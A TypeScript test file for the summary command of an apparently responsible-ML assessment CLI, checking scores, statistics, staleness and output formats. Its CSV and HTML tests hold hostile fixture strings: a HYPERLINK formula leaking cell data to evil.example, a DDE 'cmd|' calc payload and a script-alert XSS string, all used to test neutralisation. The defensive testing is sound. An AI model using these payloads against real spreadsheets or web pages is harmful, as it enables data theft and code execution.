import { mkdirSync, readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { EXAMPLES, FIXTURES, runInProcess, withTempDir } from "../helpers/run.js";
import { parseCsv } from "../helpers/csv.js";

const PORTFOLIO = join(FIXTURES, "summary-portfolio");
const TINY = join(PORTFOLIO, "tiny-pack");
const TEAMS = join(PORTFOLIO, "teams");
const BOTH_PACKS = ["--pack", "principles", "--pack", TINY];
// The examples of the principles pack (the MLTRL example, of another built-in pack, is summarised in its own test).
const EXAMPLE_FILES = ["clinical-triage", "credit-scoring", "support-assistant"].map((name) => join(EXAMPLES, `${name}.yaml`));

interface Row { file: string; project: string | null; owner: string | null; pack: string | null; packVersion: string | null; date: string | null; ageDays: number | null; stale: boolean; status: string | null; score: number | null; band: string | null; principles: Record<string, number | null>; unanswered: number | null; valid: boolean }
interface PrincipleStats { pack: string; id: string; title: string; mean: number | null; min: number | null; max: number | null; bands: Record<string, number>; scored: number }
interface Summary { tool: { name: string }; assessments: Row[]; principles: PrincipleStats[]; invalid: { file: string; message: string }[]; packs: { id: string; weakest: string[] }[]; stale: { file: string; ageDays: number }[]; undated: string[]; olderPack: { file: string; retired: number }[] }
interface Checked { file: string; project: { name: string }; pack: { id: string }; score: number | null; band: string | null; principles: { id: string; title: string; score: number | null; band: string | null; counts: { unanswered: number } }[] }

async function summaryJson(args: string[], env: Record<string, string> = {}): Promise<Summary> {
  const r = await runInProcess(["summary", ...args, "--format", "json"], { env });
  expect(r.code, r.stderr).toBe(0);
  return JSON.parse(r.stdout) as Summary;
}

async function checked(args: string[]): Promise<Checked[]> {
  const r = await runInProcess(["check", ...args, "--format", "json", "--no-config", "--allow-unanswered"]);
  expect(r.code, r.stderr).toBeLessThan(2);
  return (JSON.parse(r.stdout) as { results: Checked[] }).results;
}

/** The pinned rule, computed independently: the mean of the rounded scores to one decimal, over assessments scoring the principle. */
function expectedStats(results: Checked[], id: string, bands: string[]) {
  const scored = results.map((r) => r.principles.find((p) => p.id === id)!).filter((p) => p.score !== null);
  const scores = scored.map((p) => p.score!);
  return {
    mean: scores.length ? Math.round((scores.reduce((a, b) => a + b, 0) / scores.length) * 10) / 10 : null,
    min: scores.length ? Math.min(...scores) : null,
    max: scores.length ? Math.max(...scores) : null,
    bands: Object.fromEntries(bands.map((b) => [b, scored.filter((p) => p.band === b).length])),
    scored: scores.length,
  };
}

/** What `summary` must say about each file, taken from `check --format json` of the same files. */
function expectRowsAgree(rows: Row[], results: Checked[]) {
  expect(rows.map((r) => r.file)).toEqual(results.map((r) => r.file));
  for (const [i, r] of results.entries()) {
    expect(rows[i]).toMatchObject({
      project: r.project.name, pack: r.pack.id, score: r.score, band: r.band, valid: true,
      principles: Object.fromEntries(r.principles.map((p) => [p.id, p.score])),
      unanswered: r.principles.reduce((n, p) => n + p.counts.unanswered, 0),
    });
  }
}

describe("summary over the examples", () => {
  it("json: rows and principle statistics agree with check --format json of the same files", async () => {
    const [summary, results] = await Promise.all([summaryJson(EXAMPLE_FILES), checked(EXAMPLE_FILES)]);
    expect(summary.tool.name).toBe("rml-assess");
    expectRowsAgree(summary.assessments, results);
    const bands = Object.keys(summary.principles[0]!.bands);
    expect(summary.principles.map((p) => p.id)).toEqual(results[0]!.principles.map((p) => p.id));
    for (const p of summary.principles) expect(p).toMatchObject({ title: results[0]!.principles.find((x) => x.id === p.id)!.title, ...expectedStats(results, p.id, bands) });
    expect(summary.invalid).toEqual([]);
    // The weakest principles are the lowest means, weakest first.
    const means = [...summary.principles].sort((a, b) => a.mean! - b.mean!).map((p) => p.mean);
    expect(summary.packs[0]!.weakest.map((id) => summary.principles.find((p) => p.id === id)!.mean)).toEqual(means.slice(0, 3));
  });

  it("without --pack, reads each file with the built-in pack its pack: names, each pack summarised apart", async () => {
    const summary = await summaryJson([EXAMPLES]);
    expect(summary.invalid).toEqual([]);
    const packOf = new Map(summary.assessments.map((a) => [a.file.split("/").pop(), a.pack]));
    expect(packOf.get("mltrl-anomaly-detector.yaml")).toBe("mltrl");
    expect(packOf.get("credit-scoring.yaml")).toBe("responsible-ml");
    expect(summary.packs.map((p) => p.id).sort()).toEqual(["mltrl", "responsible-ml"]);
  });

  it("md, csv and html carry every assessment's score, as check computes it", async () => {
    const results = await checked(EXAMPLE_FILES);
    const out: Record<string, string> = {};
    for (const format of ["md", "csv", "html"]) {
      const r = await runInProcess(["summary", ...EXAMPLE_FILES, "--format", format]);
      expect(r.code, r.stderr).toBe(0);
      out[format] = r.stdout;
    }
    const csv = parseCsv(out.csv!);
    const header = csv[0]!;
    for (const r of results) {
      expect(out.md).toContain(`| ${r.project.name} |`);
      const mdRow = out.md!.split("\n").find((l) => l.startsWith(`| ${r.project.name} |`))!;
      expect(mdRow).toContain(`| ${r.score} | ${r.band} |`);
      const record = csv.find((c) => c[0] === r.file)!;
      expect(record[header.indexOf("score")]).toBe(String(r.score));
      for (const p of r.principles) expect(record[header.indexOf(p.id)]).toBe(p.score === null ? "" : String(p.score));
      const htmlRow = out.html!.split("\n").find((l) => l.startsWith("<tr>") && l.includes(`<code>${r.file}</code>`))!;
      expect(htmlRow).toContain(`data-v="${r.score}">${r.score}<span class="word"> ${r.band}</span>`);
    }
    expect(csv).toHaveLength(results.length + 1);
  });
});

describe("summary over two packs, with stale, undated, older and invalid files", () => {
  it("summarises each file with the pack it names, per pack, and lists the invalid one without stopping", async () => {
    const summary = await summaryJson([...EXAMPLE_FILES, TEAMS, ...BOTH_PACKS]);
    const tinyResults = await checked([...["ancient", "draft", "final", "hostile", "older-pack", "undated"].map((t) => join(TEAMS, `${t}.yaml`)), "--pack", TINY]);
    const tinyRows = summary.assessments.filter((a) => a.pack === "tiny");
    expectRowsAgree(tinyRows, tinyResults.map((r) => ({ ...r, file: r.file })));
    expect(new Set(tinyRows.map((r) => r.packVersion))).toEqual(new Set(["2.0.0"]));
    expect(summary.packs.map((p) => p.id)).toEqual(["responsible-ml", "tiny"]);
    for (const id of ["care", "rigour"]) {
      expect(summary.principles.find((p) => p.pack === "tiny" && p.id === id)).toMatchObject(expectedStats(tinyResults, id, ["Low", "Fair", "Good", "Top"]));
    }
    // Every principle of "rigour" is n/a in the undated file: it has no score there and is left out of the mean.
    expect(tinyRows.find((r) => r.file.endsWith("undated.yaml"))!.principles.rigour).toBeNull();
    expect(summary.invalid).toHaveLength(1);
    expect(summary.invalid[0]!.file).toMatch(/broken\.yaml$/);
    expect(summary.invalid[0]!.message).toMatch(/broken\.yaml:5:\d+: .*found 'maybe'/);
    expect(summary.assessments.find((a) => a.file.endsWith("broken.yaml"))).toMatchObject({ valid: false, score: null });
    // status: final where the file says so; draft, the default, for every other valid file.
    const valid = summary.assessments.filter((a) => a.valid);
    expect(valid.filter((a) => a.status === "final").map((a) => a.file.split("/").pop())).toEqual(["final.yaml"]);
    expect(valid.every((a) => a.status === "final" || a.status === "draft")).toBe(true);
    expect(summary.undated.map((f) => f.split("/").pop())).toEqual(["undated.yaml"]);
    expect(summary.olderPack.map((o) => [o.file.split("/").pop(), o.retired])).toEqual([["older-pack.yaml", 1]]);
  });

  it("counts ages to SOURCE_DATE_EPOCH's day and lists as stale what is older than --max-age-days", async () => {
    const epoch = String(Date.parse("2027-01-01T00:00:00Z") / 1000);
    const summary = await summaryJson([TEAMS, "--pack", TINY, "--max-age-days", "90"], { SOURCE_DATE_EPOCH: epoch });
    const age = (name: string) => summary.assessments.find((a) => a.file.endsWith(`${name}.yaml`))!.ageDays;
    expect(age("final")).toBe(92);
    expect(age("draft")).toBe(61);
    expect(summary.stale.map((s) => s.file.split("/").pop()).sort()).toEqual(["ancient.yaml", "final.yaml", "older-pack.yaml"]);
    // The default maximum is 365 days: only the 2024 assessment is stale then.
    const byDefault = await summaryJson([TEAMS, "--pack", TINY], { SOURCE_DATE_EPOCH: epoch });
    expect(byDefault.stale.map((s) => s.file.split("/").pop())).toEqual(["ancient.yaml"]);
  });

  it("csv: RFC 4180 records, hostile text quoted and neutralised against formula injection", async () => {
    const r = await runInProcess(["summary", ...EXAMPLE_FILES, TEAMS, ...BOTH_PACKS, "--format", "csv"]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.endsWith("\r\n")).toBe(true);
    const records = parseCsv(r.stdout);
    const header = records[0]!;
    expect(header).toEqual(expect.arrayContaining(["file", "project", "owner", "status", "pack", "pack_version", "date", "age_days", "score", "band", "unanswered", "valid", "care", "rigour", "bias-evaluation"]));
    expect(records.every((rec) => rec.length === header.length)).toBe(true);
    const hostile = records.find((rec) => rec[0]!.endsWith("hostile.yaml"))!;
    expect(hostile[header.indexOf("project")]).toBe("'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\") <script>alert(1)</script>");
    expect(hostile[header.indexOf("owner")]).toBe("'+cmd|' /C calc'!A0, \"quoted\"\nsecond line");
    // No cell a spreadsheet would take for a formula: only the tool's own numbers (an age of a
    // future date is negative) may start with a minus sign.
    for (const rec of records) for (const cell of rec) if (!/^-?\d+$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const broken = records.find((rec) => rec[0]!.endsWith("broken.yaml"))!;
    expect(broken[header.indexOf("valid")]).toBe("false");
    expect(broken[header.indexOf("problem")]).toMatch(/found 'maybe'/);
    // A row leaves empty the columns of principles its pack does not have.
    const tinyRow = records.find((rec) => rec[0]!.endsWith("final.yaml"))!;
    expect(tinyRow[header.indexOf("bias-evaluation")]).toBe("");
    expect(tinyRow[header.indexOf("care")]).toBe("100");
  });

  it("md and html escape hostile text and have a section per pack", async () => {
    for (const format of ["md", "html"]) {
      const r = await runInProcess(["summary", ...EXAMPLE_FILES, TEAMS, ...BOTH_PACKS, "--format", format]);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).not.toContain("<script>alert(1)");
      expect(r.stdout).toContain("Tiny pack for summary tests");
      expect(r.stdout).toContain("The Responsible Machine Learning Principles");
      expect(r.stdout).toMatch(/broken\.yaml:5:\d+/);
    }
  });
});

describe("summary usage", () => {
  it("exits 2 on usage errors and writes nothing", () => withTempDir(async (dir) => {
    mkdirSync(join(dir, "empty"));
    const cases = [
      ["summary", EXAMPLES, "--format", "xml"],
      ["summary", EXAMPLES, "--max-age-days", "0"],
      ["summary", join(dir, "empty")],
      ["summary", EXAMPLES, "--pack", TINY, "--pack", TINY],
      ["summary", join(EXAMPLES, "credit-scoring.yaml"), "-o", join(EXAMPLES, "credit-scoring.yaml")],
    ];
    for (const args of cases) {
      const r = await runInProcess(args);
      expect(r.code, args.join(" ")).toBe(2);
      expect(r.stdout).toBe("");
    }
  }));

  it("lists a named file that does not exist as invalid, and exits 0: a view, not a gate", async () => {
    const r = await runInProcess(["summary", join(EXAMPLES, "credit-scoring.yaml"), "no-such.yaml", "--format", "json"]);
    expect(r.code).toBe(0);
    const summary = JSON.parse(r.stdout) as Summary;
    expect(summary.invalid.map((i) => i.file)).toEqual(["no-such.yaml"]);
    expect(summary.assessments.map((a) => a.valid)).toEqual([true, false]);
  });

  it("writes with -o the document it prints, and honours --exclude", () => withTempDir(async (dir) => {
    const env = { SOURCE_DATE_EPOCH: "1790000000" };
    const printed = await runInProcess(["summary", EXAMPLES, "--format", "json", "--exclude", "examples/credit-*", "--exclude", "examples/mltrl-*"], { env });
    const out = join(dir, "summary.json");
    const written = await runInProcess(["summary", EXAMPLES, "--format", "json", "--exclude", "examples/credit-*", "--exclude", "examples/mltrl-*", "-o", out], { env });
    expect(written.code).toBe(0);
    const kept = readdirSync(EXAMPLES).filter((f) => f.endsWith(".yaml") && !f.startsWith("credit-") && !f.startsWith("mltrl-")).length;
    expect(written.stderr).toMatch(new RegExp(`Wrote .*summary\\.json \\(json summary of ${kept} assessments, 0 invalid\\)`));
    expect(readFileSync(out, "utf8")).toBe(printed.stdout);
    expect((JSON.parse(printed.stdout) as Summary).assessments.map((a) => a.file)).not.toContain("examples/credit-scoring.yaml");
  }));
});
